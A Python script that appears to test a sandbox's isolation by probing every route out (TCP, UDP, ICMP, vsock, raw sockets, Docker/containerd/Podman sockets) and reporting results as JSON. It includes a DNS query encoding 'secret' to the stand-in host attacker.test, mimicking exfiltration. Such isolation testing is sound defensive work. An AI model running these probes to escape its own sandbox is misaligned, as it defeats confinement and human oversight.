"""Runs inside a sandbox: tries every way out and prints what happened as JSON on stdout.

/workspace/plan.json (or argv[1]): JSON {"hosts": [addresses of the host], "tcp": port, "udp": port, "others": [[address, port]]}.
An attempt ends in the name of the error, in "sent" (a datagram left the socket) or in "REACHED".
"""

import json
import socket
import struct
import sys

plan = json.load(open(sys.argv[1] if sys.argv[1:] else "/workspace/plan.json"))
found = {}


def attempt(name, action):
    try:
        found[name] = action() or "nothing came back"
    except OSError as error:
        found[name] = type(error).__name__ + ": " + str(error.strerror or error)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address, port):
    with socket.socket(family(address), socket.SOCK_STREAM) as s:
        s.settimeout(1.5)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        data = s.recv(100)
        return "REACHED" if b"canary" in data else "connected, answered by the sandbox itself"


def udp(address, port, payload=b"knock"):
    with socket.socket(family(address), socket.SOCK_DGRAM) as s:
        s.settimeout(0.7)
        s.sendto(payload, (address, port))
        try:
            data = s.recv(2000)
        except OSError:
            return "sent"
        return "REACHED" if b"canary" in data else "answered by the sandbox itself"


def dns_query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def ping(address):
    echo = struct.pack(">BBHHH", 8, 0, 0xF7FC, 1, 2)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
                s.settimeout(0.7)
                s.sendto(echo, (address, 0))
                s.recv(200)
                return "REACHED"
        except OSError as error:
            last = type(error).__name__ + ": " + str(error.strerror or error)
    return last


for host in plan["hosts"]:
    attempt("tcp " + host, lambda: tcp(host, plan["tcp"]))
    attempt("udp " + host, lambda: udp(host, plan["udp"]))
    attempt("dns " + host, lambda: udp(host, 53, dns_query("c2VjcmV0.attacker.test")))
    if ":" not in host and not host.startswith("127."):  # loopback answers a ping from within
        attempt("icmp " + host, lambda: ping(host))
for address, port in plan["others"]:
    attempt("tcp %s" % address, lambda: tcp(address, port))
attempt("dns 127.0.0.11", lambda: udp("127.0.0.11", 53, dns_query("c2VjcmV0.attacker.test")))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM) and "REACHED")
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW) and "REACHED")
for path in (
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/podman/podman.sock",
):

    def unix():
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            return "REACHED"

    attempt("unix " + path, unix)
try:
    found["name"] = sorted({item[4][0] for item in socket.getaddrinfo("c2VjcmV0.attacker.test", 80)})
except OSError as error:
    found["name"] = type(error).__name__
print(json.dumps(found))
